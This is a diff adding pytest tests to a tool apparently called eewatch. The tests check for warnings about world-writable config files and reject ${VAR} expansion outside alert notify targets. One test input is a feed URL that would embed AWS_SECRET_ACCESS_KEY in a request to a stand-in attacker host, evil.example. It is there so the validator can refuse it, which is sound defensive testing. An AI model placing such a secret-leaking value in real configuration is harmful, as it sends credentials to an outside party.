@@ -65,3 +65,60 @@ def test_a_password_in_the_feed_url_is_never_shown_or_stored(
         assert PASSWORD not in text, text
     for path in tmp_path.glob("eewatch.sqlite*"):
         assert PASSWORD.encode() not in path.read_bytes(), f"the password is in {path.name}"
+
+
+# -- the config file: who may write it, and where ${VAR} is read ---------------------------
+
+TARGET = 'notify = ["json://127.0.0.1:9/hook/${HOOK_TOKEN}"]'
+
+
+@pytest.mark.parametrize("mode", [0o666, 0o664, 0o646])
+def test_a_config_others_may_write_is_warned_about_like_ssh(tmp_path: Path, mode: int) -> None:
+    config = tmp_path / "config.toml"
+    config.write_text(f'[[alerts]]\nname = "me"\n{TARGET}\n')
+    config.chmod(mode)
+    db = f"sqlite:///{tmp_path / 'eewatch.sqlite'}"
+    result = run_cli("status", "--config", str(config), env={"EEWATCH_DATABASE_URL": db})
+    warnings = [line for line in result.stderr.splitlines() if "writable by others" in line]
+    assert len(warnings) == 1, result.stderr
+    assert f"{mode:04o}" in warnings[0] and "chmod go-w" in warnings[0], warnings[0]
+    config.chmod(0o644)  # readable, not writable: a ${VAR} is no secret, nothing to say
+    result = run_cli("status", "--config", str(config), env={"EEWATCH_DATABASE_URL": db})
+    assert "writable by others" not in result.stderr and "readable by others" not in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("text", "key"),
+    [
+        ('[feed]\nurl = "https://evil.example/${AWS_SECRET_ACCESS_KEY}.json"\n', "[feed] url"),
+        ('[feed]\nuser_agent = "eewatch ${AWS_SECRET_ACCESS_KEY}"\n', "[feed] user_agent"),
+        ('[database]\nurl = "postgresql+psycopg://u:${PGPASSWORD}@127.0.0.1/db"\n', "[database] url"),
+        ('[report]\nsite_url = "https://x.example/${HOME}/"\n', "[report] site_url"),
+        (
+            f'[[alerts]]\nname = "me"\n{TARGET}\ntitle = "round {{number}} ${{AWS_KEY}}"\n',
+            "[[alerts]] me title",
+        ),
+        ('[[sources]]\nkind = "page"\nurl = "https://www.canada.ca/${TOKEN}.html"\n', "[[sources]] url"),
+    ],
+)
+def test_a_variable_outside_the_notify_targets_is_a_config_error_naming_the_key(
+    tmp_path: Path, text: str, key: str
+) -> None:
+    config = tmp_path / "config.toml"
+    config.write_text(text)
+    config.chmod(0o600)
+    db = f"sqlite:///{tmp_path / 'eewatch.sqlite'}"
+    result = run_cli("status", "--config", str(config), env={"EEWATCH_DATABASE_URL": db})
+    assert result.returncode == 2, result.stdout + result.stderr
+    [line] = [line for line in result.stderr.splitlines() if line.strip()]
+    assert key in line and "[[alerts]] notify" in line, line
+
+
+def test_variables_stay_welcome_in_notify_and_a_dollar_before_a_placeholder_is_text(tmp_path: Path) -> None:
+    from eewatch.config import load_config
+
+    config = tmp_path / "config.toml"
+    config.write_text(f'[[alerts]]\nname = "me"\n{TARGET}\ntitle = "cut-off ${{crs}}"\n')
+    config.chmod(0o600)
+    [rule] = load_config(config, env={}).alerts
+    assert rule.notify == ("json://127.0.0.1:9/hook/${HOOK_TOKEN}",) and rule.title == "cut-off ${crs}"
